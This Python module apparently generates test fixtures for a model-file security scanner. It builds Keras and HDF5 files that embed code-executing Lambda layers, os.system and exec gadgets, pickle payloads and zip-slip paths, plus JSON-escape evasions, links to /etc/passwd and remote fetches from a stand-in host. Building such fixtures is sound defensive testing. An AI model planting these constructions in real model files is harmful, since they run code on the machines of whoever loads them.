"""Keras: configurations that act, at any depth, in every container."""

import base64
import io
import json

import h5py

from .ops import run, stream
from .zips import archive

CODE = base64.b64encode(b"\xe3\x01\0\0\0\0\0\0\0").decode()
LAMBDA = {"class_name": "__lambda__", "config": {"code": CODE, "defaults": None, "closure": None}}


def layer(kind, place="keras.layers", **config):
    return {
        "module": place,
        "class_name": kind,
        "config": {"name": "x", "trainable": True, "dtype": "float32", **config},
        "registered_name": None,
    }


def lambda_layer(function=LAMBDA):
    return layer("Lambda", function=function, arguments={})


def sequential(*layers, **more):
    entry = layer("InputLayer", batch_shape=[None, 2])
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "s", "trainable": True, "dtype": "float32", "layers": [entry, *layers]},
        "registered_name": None,
        **more,
    }


DENSE = layer("Dense", units=1, activation="linear", use_bias=True)


def hdf5(fill=lambda file: None, **attributes):
    out = io.BytesIO()
    with h5py.File(out, "w", libver="earliest") as file:
        for name, data in attributes.items():
            file.attrs[name] = data
        fill(file)
    return out.getvalue()


def package(config, *more, weights=None):
    config = config if isinstance(config, bytes) else json.dumps(config).encode()
    metadata = json.dumps({"keras_version": "3.9.0", "date_saved": "2025-01-01@00:00:00"}).encode()
    return archive(("metadata.json", metadata), ("config.json", config), ("model.weights.h5", weights or hdf5()), *more)


def files():
    for name, technique, reference, expected, content in [*configurations(), *packages(), *old()]:
        yield name, technique, reference, expected, content


def configurations():
    bad, cve = "malicious", "CVE-2024-3660, 2025-1550, 2025-8747, 2025-9906"
    obj = lambda module, kind, config, registered=None: {
        "module": module,
        "class_name": kind,
        "config": config,
        "registered_name": registered,
    }  # noqa: E731
    gadget = obj("builtins", "function", "exec", "function")
    cases = {
        "lambda": lambda_layer(),
        "lambda_by_name": lambda_layer("os.system"),
        "lambda_registered": {**lambda_layer(), "registered_name": "keras.layers>Lambda"},
        "lambda_src_module": layer("Lambda", "keras.src.layers.core.lambda_layer", function=LAMBDA),
        "lambda_old_list": lambda_layer([CODE, None, None]),
        "lambda_no_module": {"class_name": "Lambda", "config": {"function": LAMBDA, "function_type": "lambda"}},
        "in_time_distributed": layer("TimeDistributed", layer=lambda_layer()),
        "in_bidirectional": layer(
            "Bidirectional", layer=layer("RNN", cell=layer("LSTMCell", units=2)), backward_layer=lambda_layer()
        ),
        "in_sequential": sequential(lambda_layer()),
        "in_functional": {
            "module": "keras.src.models.functional",
            "class_name": "Functional",
            "config": {"layers": [lambda_layer()], "input_layers": [], "output_layers": []},
        },
        "in_activation": layer("Dense", units=1, activation=LAMBDA),
        "in_initializer": layer("Dense", units=1, kernel_initializer=LAMBDA),
        "in_regularizer": layer("Dense", units=1, kernel_regularizer=obj("builtins", "function", "eval", "function")),
        "in_cell": layer("RNN", cell=[layer("LSTMCell", units=1), lambda_layer()]),
        "in_dictionary": layer("Dense", units=1, extra={"a": [{"b": LAMBDA}]}),
        "in_arguments": {**DENSE, "build_config": {"input_shape": [None, 2], "x": LAMBDA}},
        "in_compile_config": {**DENSE, "compile_config": {"loss": LAMBDA}},
        "function_exec": layer("Activation", activation=gadget),
        "function_system": layer("Activation", activation=obj("os", "function", "system", "function")),
        "class_popen": obj("subprocess", "Popen", {"args": "true"}),
        "class_of_os": obj("os", "system", {"command": "true"}),
        "get_file": layer("Activation", activation=obj("keras.utils", "function", "get_file", "get_file")),
        "get_file_src": obj("keras.src.utils.file_utils", "get_file", {"origin": "http://203.0.113.1/x"}),
        "unsafe_flag": obj("keras.config", "enable_unsafe_deserialization", {}),
        "load_model": obj("keras.saving", "load_model", {"filepath": "http://203.0.113.1/m.keras"}),
        "pickle_loads": obj("pickle", "loads", {"data": "gAQu"}),
        "numpy_load": obj("numpy", "load", {"file": "x", "allow_pickle": True}),
        "partial": obj("functools", "partial", {"func": "os.system"}),
        "unknown_module": obj("evil_package.layers", "Layer", {}),
        "unknown_registered": obj(None, "Own", {}, "evil>Own"),
        "keras_unknown_class": obj("keras.layers", "Exploit", {}),
        "keras_function_as_layer": obj("keras.src.backend.common.global_state", "set_global_attribute", {}),
        "string_lookup_file": layer("StringLookup", vocabulary="/etc/passwd"),
        "string_lookup_url": layer("StringLookup", vocabulary="http://203.0.113.1/x"),
        "text_vectorization": layer("TextVectorization", standardize=LAMBDA),
        "integer_lookup": layer("IntegerLookup", vocabulary="../../x"),
        "torch_module": layer("TorchModuleWrapper", "keras.layers", module="gAQu"),
        "torch_module_src": layer(
            "TorchModuleWrapper", "keras.src.utils.torch_utils", module=base64.b64encode(stream(run())).decode()
        ),
        "tfsm_layer": layer("TFSMLayer", filepath="/nonexistent/m"),
        "jax_layer": layer("JaxLayer", "keras.src.utils.jax_layer", call_fn=LAMBDA),
        "flax_layer": layer("FlaxLayer", "keras.src.utils.jax_layer", module=LAMBDA),
        "tf_op_lambda": {"class_name": "TFOpLambda", "config": {"function": "io.write_file"}},
        "sliced_op": {"class_name": "TensorFlowOpLayer", "config": {"node_def": "CgF3EglXcml0ZUZpbGU="}},
        "safe_mode_false": {**sequential(lambda_layer()), "safe_mode": False},
        "shared_object": {**lambda_layer(), "shared_object_id": 7},
        "module_dots": obj("keras.layers.core...os", "system", {}),
        "module_spaces": obj(" os", "system", {}),
        "class_dotted": obj("keras", "src.utils.file_utils.get_file", {"origin": "x"}),
    }
    for name, config in cases.items():
        expected = (
            bad
            if name.startswith(("lambda", "in_", "function_", "class_")) or name in ("get_file", "pickle_loads")
            else "suspicious"
        )
        yield (
            f"{name}.keras",
            f"a configuration: {name.replace('_', ' ')}",
            cve,
            expected,
            package(sequential(config) if config["class_name"] != "Sequential" else config),
        )
    yield (
        "loss.keras",
        "the loss is a Lambda",
        cve,
        bad,
        package(sequential(DENSE, compile_config={"optimizer": "adam", "loss": LAMBDA})),
    )
    yield "custom_objects.keras", "the top is what acts", cve, bad, package(obj("builtins", "exec", {"source": "pass"}))
    yield "json_alone.json", "a configuration alone", cve, bad, json.dumps(sequential(lambda_layer())).encode()


def packages():
    bad = "malicious"
    text = json.dumps(sequential(lambda_layer()))
    harmless = json.dumps(sequential(DENSE))
    yield (
        "escaped.keras",
        "every letter of the class name escaped",
        "JSON",
        bad,
        package(text.replace("Lambda", "".join(f"\\u{ord(c):04x}" for c in "Lambda")).encode()),
    )
    yield (
        "escaped_key.keras",
        "the key class_name escaped",
        "JSON",
        bad,
        package(text.replace("class_name", "cl\\u0061ss_name").encode()),
    )
    yield (
        "key_twice.keras",
        "class_name twice, the last counts",
        "JSON",
        bad,
        package(text.replace('"class_name": "Lambda"', '"class_name": "Dense", "class_name": "Lambda"').encode()),
    )
    yield "utf16.keras", "UTF-16", "JSON", "suspicious", package(text.encode("utf-16"))
    yield "utf8_mark.keras", "a byte order mark", "JSON", "suspicious", package(b"\xef\xbb\xbf" + text.encode())
    yield (
        "deep.keras",
        "nested 9,000 deep",
        "JSON",
        "suspicious",
        package(b'{"class_name": ' * 9000 + b"1" + b"}" * 9000),
    )
    yield "not_json.keras", "no JSON", "JSON", "suspicious", package(b"import os")
    yield (
        "config_twice.keras",
        "config.json twice",
        "two loaders",
        bad,
        package(harmless.encode(), ("config.json", text.encode())),
    )
    yield (
        "deflated.keras",
        "deflated members",
        "containers",
        bad,
        archive(
            ("metadata.json", b'{"keras_version": "3.9.0"}'),
            ("config.json", text.encode(), {"method": 8}),
            ("model.weights.h5", hdf5()),
        ),
    )
    yield (
        "asset_pickle.keras",
        "a pickle among the assets",
        "containers",
        bad,
        package(harmless.encode(), ("assets/vocabulary.txt", stream(run()))),
    )
    yield (
        "asset_traversal.keras",
        "an asset that leaves the folder",
        "zip slip",
        bad,
        package(harmless.encode(), ("assets/../../../owned", b"x")),
    )
    yield (
        "weights_external_link.keras",
        "weights that lead to another file",
        "CVE-2026-1669",
        "suspicious",
        package(harmless.encode(), weights=hdf5(external_link)),
    )
    yield (
        "weights_external_storage.keras",
        "weights in another file",
        "CVE-2026-1669",
        "suspicious",
        package(harmless.encode(), weights=hdf5(external_storage)),
    )
    yield (
        "weights_pickle.keras",
        "weights that are a pickle",
        "containers",
        bad,
        package(harmless.encode(), weights=stream(run())),
    )
    yield (
        "npz_weights.keras",
        "weights as an npz with objects",
        "CVE-2019-6446",
        bad,
        archive(
            ("metadata.json", b'{"keras_version": "3.9.0"}'),
            ("config.json", harmless.encode()),
            ("model.weights.npz", archive(("a.npy", stream(run())))),
        ),
    )


def external_link(file):
    file["layers/dense/vars/0"] = h5py.ExternalLink("/etc/passwd", "/x")


def external_storage(file):
    file.create_dataset("w", (8,), "u1", external=[("/etc/passwd", 0, 8)])


def old():
    bad, cve = "malicious", "CVE-2025-9905, CVE-2026-1669"
    dense = {
        "class_name": "Sequential",
        "config": {"name": "s", "layers": [{"class_name": "Dense", "config": {"units": 1}}]},
    }
    inner = {"class_name": "Lambda", "config": {"name": "l", "function": [CODE, None, None], "function_type": "lambda"}}
    named = {"class_name": "Sequential", "config": {"name": "s", "layers": [inner]}}
    version = {"keras_version": "2.15.0", "backend": "tensorflow"}

    def with_config(config, **more):
        return hdf5(model_config=config if isinstance(config, (str, bytes)) else json.dumps(config), **version, **more)

    yield "lambda.h5", "a Lambda", cve, bad, with_config(named)
    yield (
        "lambda_list.h5",
        "the configuration is a list",
        cve,
        bad,
        with_config({"class_name": "Sequential", "config": [inner]}),
    )
    yield "lambda_bytes.h5", "the configuration as bytes", cve, bad, with_config(json.dumps(named).encode())
    yield (
        "lambda_in_model.h5",
        "a Lambda in a model in a wrapper",
        cve,
        bad,
        with_config(
            {
                "class_name": "Model",
                "config": {"layers": [{"class_name": "TimeDistributed", "config": {"layer": named}}]},
            }
        ),
    )
    yield (
        "lambda_function_name.h5",
        "a Lambda of a function by name",
        cve,
        bad,
        with_config(
            {
                "class_name": "Sequential",
                "config": [
                    {
                        "class_name": "Lambda",
                        "config": {"function": "system", "function_type": "function", "module": "os"},
                    }
                ],
            }
        ),
    )
    yield (
        "lambda_escaped.h5",
        "a Lambda by an escape",
        cve,
        bad,
        with_config(json.dumps(named).replace("Lambda", "L\\u0061mbda")),
    )
    yield (
        "training_loss.h5",
        "a Lambda as the loss",
        cve,
        bad,
        with_config(dense, training_config=json.dumps({"loss": LAMBDA, "metrics": [], "optimizer_config": {}})),
    )
    yield (
        "training_module.h5",
        "a callable in training_config",
        cve,
        bad,
        with_config(
            dense, training_config=json.dumps({"loss": {"module": "os", "class_name": "function", "config": "system"}})
        ),
    )
    yield (
        "config_at_group.h5",
        "the configuration at a group, for tools that look there",
        cve,
        "suspicious",
        hdf5(lambda file: file.create_group("model").attrs.__setitem__("model_config", json.dumps(named)), **version),
    )
    yield "renamed.bin", "an h5 file of another name", cve, bad, with_config(named)
    yield "user_block.h5", "an h5 file behind a block of 512 bytes", cve, bad, bytes(512) + with_config(named)
    yield (
        "external_link.h5",
        "a link to another file",
        cve,
        "suspicious",
        hdf5(external_link, model_config=json.dumps(dense), **version),
    )
    yield (
        "external_storage.h5",
        "data in another file",
        cve,
        "suspicious",
        hdf5(external_storage, model_config=json.dumps(dense), **version),
    )
    yield "cut.h5", "a file that is cut", "HDF5", "suspicious", with_config(named)[:-200]
    yield (
        "pickle_attribute.h5",
        "a pickle as an attribute",
        "HDF5",
        "suspicious",
        with_config(dense, custom_objects=__import__("numpy").void(stream(run()))),
    )
    yield (
        "unknown_class.h5",
        "a class that Keras does not have",
        cve,
        "suspicious",
        with_config({"class_name": "Sequential", "config": {"layers": [{"class_name": "EvilLayer", "config": {}}]}}),
    )
